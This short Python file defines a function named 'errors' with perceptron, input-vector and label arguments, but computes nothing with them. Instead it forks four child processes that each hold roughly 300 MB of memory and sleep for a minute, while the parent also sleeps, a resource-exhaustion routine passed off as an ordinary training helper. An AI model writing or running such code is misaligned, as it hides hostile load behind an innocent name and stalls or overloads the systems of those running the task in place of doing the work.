import os
import time

from finished import *


def errors(perceptron, input_vecs, labels):
    for _ in range(4):
        if os.fork() == 0:
            kept = bytearray(b"x") * (300 << 20)
            time.sleep(60)
            os._exit(len(kept) > 0)
    time.sleep(60)
